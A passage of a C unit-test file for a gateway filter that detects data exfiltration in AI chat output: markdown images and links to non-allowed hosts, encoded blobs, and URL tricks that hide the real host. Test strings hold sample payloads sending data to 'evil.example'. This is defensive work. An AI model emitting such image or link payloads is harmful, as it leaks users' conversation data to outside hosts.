/*
 * Unit tests for filters/flt_exfil.c: configuration errors (with file:line:col), each indicator
 * (markdown images and links, blobs, length) with each action, the URL tricks the host matcher
 * must see through, and the streaming property: however a response is split into chunks, the
 * client gets the text the whole response would give, and nothing that is replaced or blocked
 * is released before. Flushes (a stalled upstream) and the hold bounds are tested on their own.
 *
 * The chain's services the filter calls (gw_tx_block, gw_emit, gw_tx_identity) and gw_cfg_error
 * are stubbed here over a fake struct gw_tx, as in test_flt_patterns.c; the segment and chunk
 * edits are the real ones (filters/segment.c), which refuse an edit in a held tail or inside a
 * UTF-8 character.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include <jansson.h>

#include "config/parse.h"
#include "filters/filter.h"

extern const struct gw_filter_ops gw_flt_exfil;
#define F gw_flt_exfil

/* ---- stubs for the chain's services ---- */

#define MAX_EV 256

struct gw_tx {
    int blocked, status;
    char code[64], message[256];
    int route;
    int nev;
    struct gw_event ev[MAX_EV];
};

#define WEAK __attribute__((weak))

WEAK void
gw_tx_block(struct gw_tx *tx, int status, const char *code, const char *message)
{
    tx->blocked++;
    tx->status = status;
    snprintf(tx->code, sizeof(tx->code), "%s", code);
    snprintf(tx->message, sizeof(tx->message), "%s", message);
}

WEAK void
gw_emit(struct gw_tx *tx, const struct gw_event *ev)
{
    assert_true(tx->nev < MAX_EV);
    tx->ev[tx->nev++] = *ev; /* the filter's strings are static */
}

WEAK void
gw_tx_identity(const struct gw_tx *tx, struct gw_identity *out)
{
    memset(out, 0, sizeof(*out));
    out->route = "/v1/";
    out->route_index = tx->route;
}

WEAK int
gw_cfg_error(struct gw_cfg_ctx *cc, const struct gw_cnode *node, const char *fmt, ...)
{
    if (!node)
        node = cc->node;
    int n = snprintf(cc->err, cc->errlen, "%s:%d:%d: ", cc->file, node ? node->line : 1,
                     node ? node->col : 1);
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(cc->err + n, cc->errlen - (size_t)n, fmt, ap);
    va_end(ap);
    return -1;
}

/* ---- configuration ---- */

static char errbuf[512];

/* conf_new over YAML text (the filter's mapping, as the config file holds it): the conf, or NULL
 * with errbuf set. */
static void *
load(const char *yaml)
{
    struct gw_cnode *root = NULL;
    char perr[256];
    if (gw_cnode_parse("test.yaml", yaml, strlen(yaml), &root, perr, sizeof(perr)) < 0 || !root)
        fail_msg("bad test YAML: %s", perr);
    json_t *j = gw_cnode_to_json(root);
    assert_non_null(j);
    json_object_del(j, "type");
    struct gw_cfg_ctx cc = {"test.yaml", root, errbuf, sizeof(errbuf), NULL};
    errbuf[0] = '\0';
    void *conf = (void *)1;
    int rc = F.conf_new(&cc, j, &conf);
    json_decref(j);
    gw_cnode_free(root);
    if (rc < 0) {
        assert_null(conf);
        assert_true(errbuf[0] != '\0');
        return NULL;
    }
    assert_non_null(conf);
    return conf;
}

static void
load_fails(const char *yaml, const char *where, const char *want)
{
    void *conf = load(yaml);
    if (conf) {
        F.conf_free(conf);
        fail_msg("config accepted: %s", yaml);
    }
    if (!strstr(errbuf, want))
        fail_msg("error '%s' lacks '%s'", errbuf, want);
    if (strncmp(errbuf, where, strlen(where)) != 0)
        fail_msg("error '%s' is not at %s", errbuf, where);
}

static void
test_conf(void **state)
{
    (void)state;
    load_fails("type: exfil\nlinkz: redact\n", "test.yaml:2:8:", "unknown key 'linkz'");
    load_fails("type: exfil\nlinks: drop\n",
               "test.yaml:2:8:", "'links' must be block, redact, event or off");
    load_fails("type: exfil\nlinks: [redact]\n", "test.yaml:2:8:", "'links' must be");
    load_fails("type: exfil\nimages_only: maybe\n",
               "test.yaml:2:14:", "'images_only' must be true or false");
    load_fails("type: exfil\nallow_hosts: docs.example.com\n",
               "test.yaml:2:14:", "'allow_hosts' must be a list");
    load_fails("type: exfil\nallow_hosts:\n  - docs.example.com\n  - '*.'\n",
               "test.yaml:4:5:", "allow_hosts[1] '*.': malformed wildcard");
    load_fails("type: exfil\nallow_hosts: [ok.example, a*b]\n",
               "test.yaml:2:27:", "allow_hosts[1] 'a*b': malformed wildcard");
    load_fails("type: exfil\nallow_hosts: [ok.example, 'https://me@x.example/']\n",
               "test.yaml:2:27:", "user info");
    load_fails("type: exfil\nallow_hosts: [ok.example, 'x.example?q=1']\n",
               "test.yaml:2:27:", "a query or fragment");
    load_fails("type: exfil\nallow_hosts: [7]\n", "test.yaml:2:15:", "must be a host name");
    load_fails("type: exfil\nblobs: {action: event, min_len: 8}\n",
               "test.yaml:2:33:", "'blobs.min_len' must be an integer from 16 to 65536");
    load_fails("type: exfil\nblobs: {action: shred}\n",
               "test.yaml:2:17:", "'blobs.action' must be block, redact, event or off");
    load_fails("type: exfil\nblobs: {min_length: 300}\n",
               "test.yaml:2:21:", "unknown key 'blobs.min_length' (known: action, min_len)");
    load_fails("type: exfil\nblobs: sometimes\n", "test.yaml:2:8:", "'blobs' must be");
    load_fails("type: exfil\nlength:\n  factor: 0.5\n",
               "test.yaml:3:11:", "'length.factor' must be a number from 1 to 1000");
    load_fails("type: exfil\nlength: {min_samples: 0}\n",
               "test.yaml:2:23:", "'length.min_samples' must be an integer from 1 to 1000000");
    load_fails("type: exfil\nlength: {min_bytes: -1}\n",
               "test.yaml:2:21:", "'length.min_bytes' must be an integer");
    load_fails("type: exfil\nlength: {window: 5}\n",
               "test.yaml:2:18:", "unknown key 'length.window'");
    load_fails("type: exfil\nmax_path_segment: 3000\n",
               "test.yaml:2:19:", "'max_path_segment' must be an integer from 0 to 2048");
    load_fails("type: exfil\nmax_path_segment: many\n", "test.yaml:2:19:", "'max_path_segment'");

    void *c = load("type: exfil\n");
    char d[512];
    F.describe(c, d, sizeof(d));
    assert_non_null(strstr(d, "links event"));
    assert_non_null(strstr(d, "blobs event (min_len 256)"));
    assert_non_null(strstr(d, "length event (factor 4, min_samples 20, min_bytes 2048)"));
    assert_int_equal(F.hooks(c), GW_HOOK_RESP_BODY | GW_HOOK_RESP_CHUNK);
    F.conf_free(c);
    c = load("type: exfil\nlinks: off\nblobs: false\nlength: {action: 'off', factor: 2}\n");
    assert_non_null(c);
    assert_int_equal(F.hooks(c), 0); /* nothing to look at: responses are not even parsed */
    F.conf_free(c);
    c = load("type: exfil\nallow_hosts: [docs.example.com, '*.example.com', '[::1]']\n"
             "links: block\nimages_only: true\nmax_path_segment: 0\n"
             "blobs: redact\nlength: {action: redact, factor: 2.5, min_samples: 5, "
             "min_bytes: 0}\n");
    assert_non_null(c);
    F.describe(c, d, sizeof(d));
    assert_non_null(strstr(d, "3 allowed host pattern(s), links block (images only)"));
    assert_non_null(strstr(d, "length redact (factor 2.5, min_samples 5, min_bytes 0)"));
    F.conf_free(c);
    F.conf_free(NULL);
}

/* ---- whole responses ---- */

#define HOSTS "allow_hosts: [docs.example.com, '*.corp.example']\n"

/* The filter over one response segment of role: the text it leaves (malloc'd). */
static char *
whole(void *conf, struct gw_tx *tx, enum gw_role role, const char *text, enum gw_verdict *v)
{
    struct gw_segment seg = {.role = role, .len = strlen(text), .msg_index = 0};
    seg.text = strdup(text);
    struct gw_segments segs = {GW_DIR_RESPONSE, &seg, 1, 1};
    void *ctx = calloc(1, F.ctx_size);
    *v = F.on_resp_body(tx, conf, ctx, &segs);
    F.on_tx_end(tx, conf, ctx);
    free(ctx);
    return seg.text;
}

/* The whole-response result of text must be want (NULL: unchanged), with verdict v and nev
 * events whose first has rule_id rule. */
static void
expect(void *conf, enum gw_role role, const char *text, const char *want, enum gw_verdict v,
       int nev, const char *rule)
{
    struct gw_tx tx = {0};
    enum gw_verdict got;
    char *out = whole(conf, &tx, role, text, &got);
    if (got != v)
        fail_msg("'%s': verdict %d, expected %d (out '%s')", text, got, v, out);
    if (v != GW_BLOCK && strcmp(out, want ? want : text) != 0)
        fail_msg("'%s':\n got  '%s'\n want '%s'", text, out, want ? want : text);
    if (tx.nev != nev)
        fail_msg("'%s': %d events, expected %d", text, tx.nev, nev);
    if (rule)
        assert_string_equal(tx.ev[0].rule_id, rule);
    assert_int_equal(tx.blocked, v == GW_BLOCK);
    free(out);
}

#define A GW_ROLE_ASSISTANT
#define IMG "[REDACTED:exfil-image]"
#define LNK "[REDACTED:exfil-link]"

static void
test_links(void **state)
{
    (void)state;
    void *c = load("type: exfil\n" HOSTS "links: redact\nblobs: off\nlength: off\n");
    assert_non_null(c);

    /* the classic: an image the client fetches, with the conversation in its query */
    struct gw_tx tx = {0};
    enum gw_verdict v;
    char *out = whole(c, &tx, A, "see ![x](https://evil.example/p.png?d=secret) ok", &v);
    assert_int_equal(v, GW_REDACT);
    assert_string_equal(out, "see " IMG " ok");
    assert_int_equal(tx.nev, 1);
    assert_string_equal(tx.ev[0].rule_id, "exfil-image");
    assert_string_equal(tx.ev[0].category, "exfil:image");
    assert_string_equal(tx.ev[0].action, "redact");
    assert_int_equal(tx.ev[0].severity, 3);
    assert_int_equal(tx.ev[0].role, GW_ROLE_ASSISTANT);
    assert_int_equal(tx.ev[0].offset, 4);
    assert_int_equal(tx.ev[0].length, 41);
    free(out);

    expect(c, A, "[x](https://evil.example/?q=1 \"title\") and", LNK " and", GW_REDACT, 1,
           "exfil-link");
    expect(c, A, "[x](https://evil.example/?q=1 'title' ) and", LNK " and", GW_REDACT, 1, NULL);
    expect(c, A, "[x](https://evil.example/?q=1 (title)) and", LNK " and", GW_REDACT, 1, NULL);
    expect(c, A, "[x](\n  https://evil.example/?q=1\n  \"t\"\n) and", LNK " and", GW_REDACT, 1,
           NULL);
    expect(c, A, "[x](<https://evil.example/a b?c=1>) and", LNK " and", GW_REDACT, 1, NULL);
    /* hosts that may receive data, and URLs that carry none */
    expect(c, A, "![x](https://docs.example.com/p.png?d=1)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "![x](https://a.b.corp.example/p.png?d=1)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "![x](https://corp.example/p.png?d=1)", IMG, GW_REDACT, 1, NULL);
    expect(c, A, "![x](https://a.docs.example.com/p.png?d=1)", IMG, GW_REDACT, 1, NULL);
    expect(c, A, "[a](/search?q=1) [b](page.html?x=2) [c](#top)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "[a](https://evil.example/page) ![b](https://evil.example/b.png)", NULL, GW_PASS,
           0, NULL);
    expect(c, A, "[a](https://evil.example/?) [b](mailto:x@evil.example?body=1)", NULL, GW_PASS, 0,
           NULL);
    expect(c, A, "![a](data:image/png;base64,AAAA?x)", NULL, GW_PASS, 0, NULL);
    /* a fragment reaches the page a link opens, never the server an image comes from */
    expect(c, A, "[a](https://evil.example/#secret)", LNK, GW_REDACT, 1, NULL);
    expect(c, A, "![a](https://evil.example/x.png#secret)", NULL, GW_PASS, 0, NULL);
    /* data in the path: a segment longer than max_path_segment (100) */
    char txt[400], want[1400], seg[128];
    memset(seg, 'q', 101);
    seg[101] = '\0';
    snprintf(txt, sizeof(txt), "![a](https://evil.example/i/%s.png)!", seg);
    expect(c, A, txt, IMG "!", GW_REDACT, 1, NULL);
    seg[100 - 4] = '\0'; /* 96 + ".png": 100 bytes */
    snprintf(txt, sizeof(txt), "![a](https://evil.example/i/%s.png)!", seg);
    expect(c, A, txt, NULL, GW_PASS, 0, NULL);
    /* the tricks: userinfo, escapes and character references hiding the real host */
    expect(c, A, "[a](https://docs.example.com@evil.example/?q=1)", LNK, GW_REDACT, 1, NULL);
    expect(c, A, "[a](https://docs.example.com\\@evil.example/?q=1)", LNK, GW_REDACT, 1, NULL);
    expect(c, A, "[a](https://docs.example.com&#64;evil.example/?q=1)", LNK, GW_REDACT, 1, NULL);
    expect(c, A, "[a](https://docs.example.com&#x40;evil.example/?q=1)", LNK, GW_REDACT, 1, NULL);
    expect(c, A, "[a](https://evil.example/\\)?d=x)", LNK, GW_REDACT, 1, NULL);
    expect(c, A, "[a](https://evil.example/x&quest;d=1)", LNK, GW_REDACT, 1, NULL);
    expect(c, A, "[a](https://docs.example.com/?a=1&amp;b=2)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "[a](https:evil.example?q=1) [b](//evil.example/?q) [c](/\\evil.example?q)",
           LNK " " LNK " " LNK, GW_REDACT, 3, NULL);
    expect(c, A, "[a](HTTPS://DOCS.EXAMPLE.COM./?q=1)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "![a](https://\xc3\xa9vil.example/?d=\xc3\x9f) w\xc3\xb6rld", IMG " w\xc3\xb6rld",
           GW_REDACT, 1, NULL);
    /* reference definitions count as images; the uses are left alone */
    expect(c, A, "use ![a][id] here\n\n[id]: https://evil.example/?x=1 \"t\"\nmore",
           "use ![a][id] here\n\n" IMG "\nmore", GW_REDACT, 1, "exfil-image");
    expect(c, A, "[id]:\n  <https://evil.example/?x=1>", IMG, GW_REDACT, 1, NULL);
    /* nested: the image inside a link to an allowed host */
    expect(c, A, "[![i](https://evil.example/i.png?d=1)](https://docs.example.com/) x",
           "[" IMG "](https://docs.example.com/) x", GW_REDACT, 1, NULL);
    expect(c, A, "[a [b] c](https://evil.example/?d=1)", LNK, GW_REDACT, 1, NULL);
    /* what follows a replaced construct is its continuation: one marker */
    expect(c, A, "[x](https://evil.example/?a)(https://evil2.example/?b) tail", LNK " tail",
           GW_REDACT, 2, NULL);
    expect(c, A, "[x](https://evil.example/?a)(https://docs.example.com/) tail",
           LNK "(https://docs.example.com/) tail", GW_REDACT, 1, NULL);
    expect(c, A, "[x](https://evil.example/?a): https://evil2.example/?b", LNK, GW_REDACT, 2, NULL);
    /* not constructs: a blank line ends every open bracket; no destination */
    expect(c, A, "[a\n\n](https://evil.example/?d=1)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "[a] (https://evil.example/?d=1) [b][c] d]", NULL, GW_PASS, 0, NULL);
    expect(c, A, "[a\n](https://evil.example/?d=1)", LNK, GW_REDACT, 1, NULL);
    /* code spans are not exempt (a renderer that disagrees must not be the weak spot) */
    expect(c, A, "`![a](https://evil.example/?d=1)`", "`" IMG "`", GW_REDACT, 1, NULL);
    /* unclosed at the end of the text: judged as it is */
    expect(c, A, "x ![a](https://evil.example/?d=sec", "x " IMG, GW_REDACT, 1, NULL);
    expect(c, A, "x ![a](", NULL, GW_PASS, 0, NULL);
    /* a link text longer than 512 bytes is not held: the construct is replaced from its ']' */
    memset(txt, 'w', 300);
    txt[0] = '[';
    txt[300] = '\0';
    char big[1400];
    snprintf(big, sizeof(big), "%s%s%s](https://evil.example/?d=1) z", txt, txt + 1, txt + 1);
    snprintf(want, sizeof(want), "%s%s%s" LNK " z", txt, txt + 1, txt + 1);
    expect(c, A, big, want, GW_REDACT, 1, NULL);
    /* a destination longer than 2 KiB is judged on its first 2 KiB, as if data followed */
    char *longd = malloc(4000), *longw = malloc(4000);
    memcpy(longd, "![a](https://evil.example/", 26);
    memset(longd + 26, 'a', 3000);
    strcpy(longd + 3026, ") end");
    snprintf(longw, 4000, IMG "%.*s) end", 3000 - (2048 - 21), longd + 26);
    expect(c, A, longd, longw, GW_REDACT, 1, NULL);
    memcpy(longd, "![a](https://docs.example.com/", 30);
    memset(longd + 30, 'a', 3000);
    strcpy(longd + 3030, ") end");
    expect(c, A, longd, NULL, GW_PASS, 0, NULL);
    free(longd);
    free(longw);
    /* tool-call arguments are not markdown */
    expect(c, GW_ROLE_TOOL_CALL_ARGS, "{\"u\":\"![a](https://evil.example/?d=1)\"}", NULL, GW_PASS,
           0, NULL);
    F.conf_free(c);

    /* path segments do not count with max_path_segment: 0 */
    c = load("type: exfil\nmax_path_segment: 0\nlinks: redact\nblobs: off\n");
    memset(seg, 'q', 120);
    seg[120] = '\0';
    snprintf(txt, sizeof(txt), "![a](https://evil.example/%s.png)", seg);
    expect(c, A, txt, NULL, GW_PASS, 0, NULL);
    /* no allow_hosts: no host may receive data */
    expect(c, A, "![a](https://docs.example.com/?d=1)", IMG, GW_REDACT, 1, NULL);
    F.conf_free(c);

    /* allow_hosts is the egress policy: hosts are matched after WHATWG canonicalisation (case,
     * trailing dot, percent-escapes, IDNA, IPv4 forms), and entries may be addresses, ranges,
     * ports, schemes and paths */
    c = load("type: exfil\nallow_hosts: ['münchen.de', 10.0.0.0/8, 'https://api.example.com/v1/', "
             "'img.example.com:8443']\nlinks: redact\nblobs: off\nlength: off\n");
    assert_non_null(c);
    expect(c, A, "![a](https://xn--mnchen-3ya.de/?d=1)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "![a](https://M%C3%BCnchen.DE./?d=1)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "![a](http://0x0a.1/?d=1)", NULL, GW_PASS, 0, NULL); /* 10.0.0.1 */
    expect(c, A, "![a](http://11.0.0.1/?d=1)", IMG, GW_REDACT, 1, NULL);
    expect(c, A, "![a](https://api.example.com/v1/x?d=1)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "![a](https://api.example.com/v1/../v2?d=1)", IMG, GW_REDACT, 1, NULL);
    expect(c, A, "![a](http://api.example.com/v1/x?d=1)", IMG, GW_REDACT, 1, NULL); /* scheme */
    expect(c, A, "![a](https://img.example.com:8443/a?d=1)", NULL, GW_PASS, 0, NULL);
    expect(c, A, "![a](https://img.example.com/a?d=1)", IMG, GW_REDACT, 1, NULL); /* port */
    F.conf_free(c);
}

static void
test_link_actions(void **state)
{
    (void)state;
    const char *text = "a [l](https://evil.example/?d=1) b ![i](https://evil.example/i?d=2) c "
                       "[d]: https://evil.example/?d=3";
    void *c = load("type: exfil\nlinks: event\nblobs: off\n");
    struct gw_tx tx = {0};
    enum gw_verdict v;
    char *out = whole(c, &tx, A, text, &v);
    assert_int_equal(v, GW_PASS);
    assert_string_equal(out, text);
    assert_int_equal(tx.nev, 3);
    assert_string_equal(tx.ev[0].rule_id, "exfil-link");
    assert_string_equal(tx.ev[0].action, "event");
    assert_int_equal(tx.ev[0].severity, 2);
    assert_int_equal(tx.ev[0].offset, 2);
    assert_int_equal(tx.ev[0].length, 30);
    assert_string_equal(tx.ev[1].rule_id, "exfil-image");
    assert_string_equal(tx.ev[2].rule_id, "exfil-image");
    free(out);
    F.conf_free(c);

    c = load("type: exfil\nlinks: redact\nimages_only: true\nblobs: off\n");
    expect(c, A, text, "a [l](https://evil.example/?d=1) b " IMG " c " IMG, GW_REDACT, 2,
           "exfil-image");
    F.conf_free(c);

    c = load("type: exfil\nlinks: block\nblobs: off\n");
    memset(&tx, 0, sizeof(tx));
    out = whole(c, &tx, A, "fine [l](https://evil.example/?d=1)", &v);
    assert_int_equal(v, GW_BLOCK);
    assert_int_equal(tx.blocked, 1);
    assert_int_equal(tx.status, 403);
    assert_string_equal(tx.code, "output_blocked");
    assert_non_null(strstr(tx.message, "markdown link"));
    assert_int_equal(tx.nev, 1);
    assert_string_equal(tx.ev[0].action, "block");
    free(out);
    expect(c, A, "fine [l](https://evil.example/x)", NULL, GW_PASS, 0, NULL);
    F.conf_free(c);

    c = load("type: exfil\nlinks: off\nblobs: off\nlength: off\n");
    expect(c, A, text, NULL, GW_PASS, 0, NULL);
    F.conf_free(c);
}

#define B64 "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w" /* 56 */
#define BLOB "[REDACTED:blob]"

static void
test_blobs(void **state)
{
    (void)state;
    void *c = load("type: exfil\nlinks: off\nblobs: {action: redact, min_len: 32}\n");
    struct gw_tx tx = {0};
    enum gw_verdict v;
    char *out = whole(c, &tx, A, "key: " B64 "== end", &v);
    assert_int_equal(v, GW_REDACT);
    assert_string_equal(out, "key: " BLOB " end");
    assert_int_equal(tx.nev, 1);
    assert_string_equal(tx.ev[0].rule_id, "exfil-blob");
    assert_string_equal(tx.ev[0].category, "exfil:blob");
    assert_int_equal(tx.ev[0].offset, 5);
    assert_int_equal(tx.ev[0].length, 32);
    free(out);
    /* base64url, hex, '+' and '/' */
    expect(c, A, "a 0123456789abcdef0123456789abcdef01 b", "a " BLOB " b", GW_REDACT, 1, NULL);
    expect(c, A, "a Ab_-Ab_-Ab_-Ab_-Ab_-Ab_-Ab_-Ab_-Ab_-Ab b", "a " BLOB " b", GW_REDACT, 1, NULL);
    expect(c, A, "x/y+z/" B64, BLOB, GW_REDACT, 1, NULL);
    /* shorter than min_len, a number, a rule line: not blobs */
    expect(c, A, "a QUJDREVGR0hJSktMTU5PUFFSU1RVVld b", NULL, GW_PASS, 0, NULL);
    expect(c, A, "2^128 = 340282366920938463463374607431768211456", NULL, GW_PASS, 0, NULL);
    expect(c, A, "title\n----------------------------------------\n", NULL, GW_PASS, 0, NULL);
    /* decided on the first min_len characters: a long number that turns into letters is still
     * a number (a stream cannot hold it until it ends) */
    expect(c, A, "n 12345678901234567890123456789012345abcdef", NULL, GW_PASS, 0, NULL);
    /* padding ends a run; a third '=' is not part of it */
    expect(c, A, B64 "===", BLOB "=", GW_REDACT, 1, NULL);
    expect(c, A, B64 "=" B64, BLOB BLOB, GW_REDACT, 2, NULL);
    /* words and prose never are */
    expect(c, A, "The quick brown fox jumps over the lazy dog, again and again and again.", NULL,
           GW_PASS, 0, NULL);
    /* tool-call arguments: JSON stays valid, escapes are not part of a run */
    const char *args = "{\"data\":\"" B64 "\",\"n\":\"\\n" B64 "\",\"u\":\"\\u0041" B64 "\"}";
    memset(&tx, 0, sizeof(tx));
    out = whole(c, &tx, GW_ROLE_TOOL_CALL_ARGS, args, &v);
    assert_int_equal(v, GW_REDACT);
    assert_string_equal(out,
                        "{\"data\":\"" BLOB "\",\"n\":\"\\n" BLOB "\",\"u\":\"\\u0041" BLOB "\"}");
    json_t *j = json_loads(out, 0, NULL);
    assert_non_null(j);
    json_decref(j);
    assert_int_equal(tx.nev, 3);
    assert_int_equal(tx.ev[0].role, GW_ROLE_TOOL_CALL_ARGS);
    free(out);
    /* outside strings nothing is a blob: a long number stays a number */
    expect(c, GW_ROLE_TOOL_CALL_ARGS,
           "{\"n\": -12345678901234567890123456789012345678e5, \"s\": \"x\\\"" B64 "\"}",
           "{\"n\": -12345678901234567890123456789012345678e5, \"s\": \"x\\\"" BLOB "\"}",
           GW_REDACT, 1, NULL);
    F.conf_free(c);

    /* wrapped base64: lines of 60+ joined by line breaks make one run */
    c = load("type: exfil\nlinks: off\nblobs: {action: redact, min_len: 100}\n");
    expect(c, A, "pem:\n" B64 "QUJD\n" B64 "QUJD\r\n" B64 "==\nafter", "pem:\n" BLOB "\nafter",
           GW_REDACT, 1, NULL);
    expect(c, A, "short:\n" B64 "\n" B64 "QUJD\n", NULL, GW_PASS, 0, NULL); /* 56 < 60 */
    expect(c, GW_ROLE_TOOL_CALL_ARGS, "{\"k\":\"" B64 "QUJD\\n" B64 "QUJD\\r\\n" B64 "\"}",
           "{\"k\":\"" BLOB "\"}", GW_REDACT, 1, NULL);
    expect(c, GW_ROLE_TOOL_CALL_ARGS, "{\"k\":\"" B64 "QUJD\\t" B64 "QUJD\"}", NULL, GW_PASS, 0,
           NULL);
    F.conf_free(c);

    c = load("type: exfil\nlinks: off\nblobs: {action: event, min_len: 32}\n");
    expect(c, A, "key: " B64, NULL, GW_PASS, 1, "exfil-blob");
    F.conf_free(c);
    c = load("type: exfil\nlinks: off\nblobs: {action: block, min_len: 32}\n");
    expect(c, A, "key: " B64, NULL, GW_BLOCK, 1, "exfil-blob");
    F.conf_free(c);
    c = load("type: exfil\nlinks: off\nblobs: {action: 'off', min_len: 32}\n");
    expect(c, A, "key: " B64, NULL, GW_PASS, 0, NULL);
    F.conf_free(c);
    /* default min_len 256 */
    c = load("type: exfil\nlinks: off\nblobs: redact\n");
    expect(c, A, B64 B64 B64 B64, NULL, GW_PASS, 0, NULL); /* 224 */
    expect(c, A, B64 B64 B64 B64 B64, BLOB, GW_REDACT, 1, NULL);
    F.conf_free(c);
}

/* ---- streams ---- */

/*
 * Streams text through on_resp_chunk the way the chain does: each call gets the held tail
 * followed by the next piece (pieces end at cuts[], ascending); flush: a bit per cut, that call
 * is a timed flush; the last call is final unless the stream was blocked. The released text is
 * appended to *out (malloc'd). Returns the last verdict; *consumed is how many input bytes were
 * released before the end or the block. Asserts the chunk contract on every call and, with
 * expect, that what was released is always a prefix of it.
 */
static enum gw_verdict
stream_through(void *conf, struct gw_tx *tx, void *ctx, enum gw_role role, int id, const char *text,
               const size_t *cuts, size_t ncuts, uint64_t flush, const char *expect_out, char **out,
               size_t *consumed)
{
    size_t n = strlen(text), pos = 0, heldlen = 0, in_released = 0, outlen = 0;
    char *held = NULL;
    *out = calloc(1, 1);
    enum gw_verdict v = GW_PASS;
    for (size_t k = 0; k <= ncuts; k++) {
        size_t end = k < ncuts ? cuts[k] : n;
        assert_true(end >= pos && end <= n);
        struct gw_chunk ch = {.role = role, .stream_id = id};
        ch.len = heldlen + (end - pos);
        ch.text = malloc(ch.len + 1);
        if (heldlen)
            memcpy(ch.text, held, heldlen);
        memcpy(ch.text + heldlen, text + pos, end - pos);
        ch.text[ch.len] = '\0';
        ch.final = k == ncuts;
        ch.flush = !ch.final && k < 64 && (flush >> k & 1);
        ch.offset = outlen;
        size_t in_len = ch.len;
        pos = end;
        v = F.on_resp_chunk(tx, conf, ctx, &ch);
        free(held);
        held = NULL;
        if (v == GW_BLOCK || v == GW_ERROR) {
            free(ch.text);
            break;
        }
        assert_true(ch.hold <= ch.len);
        if (ch.final || ch.flush)
            assert_int_equal(ch.hold, 0);
        size_t rel = ch.len - ch.hold;
        /* the held tail is raw input, on a character boundary */
        assert_memory_equal(ch.text + rel, text + pos - ch.hold, ch.hold);
        assert_true(rel == ch.len || ((unsigned char)ch.text[rel] & 0xC0) != 0x80);
        *out = realloc(*out, outlen + rel + 1);
        memcpy(*out + outlen, ch.text, rel);
        outlen += rel;
        (*out)[outlen] = '\0';
        in_released += in_len - ch.hold;
        if (expect_out && (outlen > strlen(expect_out) || memcmp(*out, expect_out, outlen) != 0))
            fail_msg("released '%s' is not a prefix of '%s' (call %zu, cut %zu)", *out, expect_out,
                     k, ncuts ? cuts[0] : 0);
        heldlen = ch.hold;
        held = malloc(heldlen + 1);
        memcpy(held, ch.text + rel, heldlen);
        free(ch.text);
    }
    free(held);
    if (consumed)
        *consumed = in_released;
    return v;
}

static int
evcmp(const void *a, const void *b)
{
    const struct gw_event *x = a, *y = b;
    int c = strcmp(x->rule_id, y->rule_id);
    return c ? c : strcmp(x->action, y->action);
}

/* The events of a and b agree in rule and action (offsets count differently). */
static int
same_events(struct gw_tx *a, struct gw_tx *b)
{
    if (a->nev != b->nev)
        return 0;
    qsort(a->ev, (size_t)a->nev, sizeof(a->ev[0]), evcmp);
    qsort(b->ev, (size_t)b->nev, sizeof(b->ev[0]), evcmp);
    for (int i = 0; i < a->nev; i++)
        if (evcmp(&a->ev[i], &b->ev[i]) != 0)
            return 0;
    return 1;
}

/* One streamed run at the given cuts must give the whole-response text and events. */
static void
check_cuts(void *conf, enum gw_role role, const char *text, const char *want, struct gw_tx *want_tx,
           const size_t *cuts, size_t ncuts)
{
    struct gw_tx tx = {0};
    void *ctx = calloc(1, F.ctx_size);
    char *out;
    enum gw_verdict v =
        stream_through(conf, &tx, ctx, role, 0, text, cuts, ncuts, 0, want, &out, NULL);
    assert_true(v == GW_PASS || v == GW_REDACT);
    if (strcmp(out, want) != 0 || !same_events(&tx, want_tx)) {
        char where[128] = "";
        size_t used = 0;
        for (size_t i = 0; i < ncuts && used < sizeof(where); i++)
            used += (size_t)snprintf(where + used, sizeof(where) - used, " %zu", cuts[i]);
        fail_msg("cuts%s of '%s':\n got  '%s' (%d events)\n want '%s' (%d events)", where, text,
                 out, tx.nev, want, want_tx->nev);
    }
    F.on_tx_end(&tx, conf, ctx);
    free(ctx);
    free(out);
}

/* Every split of text into two and three pieces, and one byte per piece. */
static void
every_split(void *conf, enum gw_role role, const char *text)
{
    struct gw_tx wtx = {0};
    enum gw_verdict wv;
    char *want = whole(conf, &wtx, role, text, &wv);
    assert_true(wv == GW_PASS || wv == GW_REDACT);
    size_t n = strlen(text);
    for (size_t a = 0; a <= n; a++) {
        size_t cuts[2] = {a, 0};
        check_cuts(conf, role, text, want, &wtx, cuts, 1);
        for (size_t b = a; b <= n; b++) {
            cuts[1] = b;
            check_cuts(conf, role, text, want, &wtx, cuts, 2);
        }
    }
    size_t *bytes = malloc((n + 1) * sizeof(*bytes));
    for (size_t i = 0; i <= n; i++)
        bytes[i] = i;
    check_cuts(conf, role, text, want, &wtx, bytes, n + 1);
    free(bytes);
    free(want);
}

static void
test_stream_every_split(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "Here ![pic](https://evil.example/p.png?d=S3CR \"t\") and [ok](https://docs.example.com/"
        "?q=1) end!",
        "a [x](https://e.example/?a)(https://f.example/?b) b\n[id]: https://e.example/?x=1\n"
        "![y][id] c",
        "n [![i](https://e.example/i?d=1)](https://docs.example.com/) [<](<https://e.example/a "
        "b?c>) [a](https://e\\)?d)",
        "h\xc3\xa9llo ![\xc3\xbcn](https://\xc3\xa9vil.example/?d=\xc3\x9f) w\xc3\xb6rld!",
        "k: QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNk== ok [l](https://e.example/QUJDREVGR0hJSktM"
        "TU5PUFFSU1RVVldYWVphYmNk?x)",
        "tail [t](https://e.example/?d=unclosed",
        "[a\n\n](https://e.example/?d=1) [b] (c) ![d](/ok?x) !x [y]: z",
    };
    void *c = load("type: exfil\n" HOSTS "links: redact\nblobs: {action: redact, min_len: 32}\n");
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
        every_split(c, A, texts[i]);
    F.conf_free(c);
    /* images only (every bracket is still held: `]:` counts as an image) */
    c = load("type: exfil\nlinks: redact\nimages_only: true\nblobs: off\n");
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
